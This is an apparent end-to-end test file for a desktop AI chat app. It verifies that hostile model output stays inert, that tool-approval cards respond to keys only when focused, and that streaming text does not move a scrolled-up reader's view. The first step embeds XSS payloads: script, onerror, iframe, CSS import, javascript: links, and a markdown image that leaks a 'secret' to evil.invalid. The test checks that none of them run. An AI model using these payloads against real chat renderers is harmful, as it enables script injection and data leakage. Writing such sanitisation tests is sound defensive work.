/** What only a real window can show of the chat: that untrusted text does nothing, that keys approve only where they should, that nothing jumps. */
import { expect, test } from '#tests/support/app/app-window.ts';
import { answer, callTools, gate, say } from '#tests/support/gemini-api-server/index.ts';

test('what only a real window shows of the chat', async ({ api, launch, projectFolder }) => {
  const window = await launch();

  await test.step('a hostile answer runs no script, asks for nothing from the network and navigates nowhere', async () => {
    const requests: string[] = [];
    window.page.on('request', (request) => requests.push(request.url()));
    await window.newConversation();
    api.reply(
      say(
        [
          '<img src=x onerror="window.wasRun=1"><script>window.wasRun=1</script>',
          '<iframe src="https://evil.invalid/frame"></iframe><style>@import "https://evil.invalid/style";</style>',
          '[run](javascript:window.wasRun=1) ![leak](https://evil.invalid/leak.png?secret)',
          '$$\\href{javascript:window.wasRun=1}{x}\\includegraphics{https://evil.invalid/math.png}$$',
          'The end',
        ].join('\n\n'),
      ),
    );
    await window.ask('Do your worst', 'The end');
    const page = window.page.url();
    await window.thread.getByText('run', { exact: true }).click();
    await expect(window.thread.getByRole('link', { name: /leak/ })).toHaveAttribute('href', 'https://evil.invalid/leak.png?secret');
    await expect(window.thread.locator('script, iframe, style, form, object, embed, img')).toHaveCount(0);
    expect(await window.page.evaluate('window.wasRun')).toBeUndefined();
    expect(requests.filter((url) => url.includes('evil'))).toEqual([]);
    expect(window.page.url()).toBe(page);
    expect(window.app.windows()).toHaveLength(1);
  });

  await test.step('an approval stays in view and is answered by its keys only while it has the focus', async () => {
    await window.newConversation();
    api.reply(callTools({ name: 'run_shell_command', args: { command: `touch ${projectFolder}/made` } }), say('It is made.'));
    await window.send('Make a file');
    const card = window.page.getByRole('region', { name: 'Approvals' }).getByRole('region');
    await expect(card).toContainText(`touch ${projectFolder}/made`);
    await expect(card.getByRole('button', { name: /^Allow once/ })).toBeEnabled();

    await expect(window.composer).toBeFocused();
    await window.composer.press('Enter');
    await window.composer.pressSequentially('a');
    await expect(card).toBeVisible();
    await card.focus();
    await window.page.keyboard.press('Enter');
    await expect(card).toBeVisible();

    // Keys count from a moment after the focus came, so that none that was on its way answers.
    await expect(card).toHaveAttribute('data-keys-armed', 'true');
    await window.page.keyboard.press('a');
    await expect(card).toHaveCount(0);
    await expect(window.thread).toContainText('It is made.');
  });

  await test.step('text that streams in moves nothing under the eyes of a reader who scrolled up', async () => {
    await window.newConversation();
    const paragraphs = (from: number, count: number) =>
      Array.from({ length: count }, (_, index) => `Paragraph ${from + index}.\n\n`).join('');
    const held = gate();
    api.reply(answer([paragraphs(1, 60), held, paragraphs(61, 60)]));
    await window.send('Write a lot');
    await expect(window.thread).toContainText('Paragraph 60.');
    await window.thread.hover();
    await window.page.mouse.wheel(0, -600);
    const jump = window.page.getByRole('button', { name: /^Jump to latest/ });
    await expect(jump).toBeVisible();
    const read = window.thread.getByText('Paragraph 35.', { exact: true });
    await read.scrollIntoViewIfNeeded();
    const before = await read.boundingBox();
    held.open();
    await expect(window.thread).toContainText('Paragraph 120.');
    await expect(window.stopButton).toHaveCount(0);
    expect(await read.boundingBox()).toEqual(before);
    await jump.click();
    await expect(window.thread.getByText('Paragraph 120.', { exact: true })).toBeInViewport();
    await expect(jump).toHaveCount(0);
    // Rows that are drawn anew pull the page up, and no hand does: whoever follows stays at the end.
    await window.thread.evaluate((element) => {
      element.scrollTop -= 400;
      element.dispatchEvent(new Event('scroll'));
    });
    await expect(window.thread.getByText('Paragraph 120.', { exact: true })).toBeInViewport();
    await expect(jump).toHaveCount(0);
  });
});
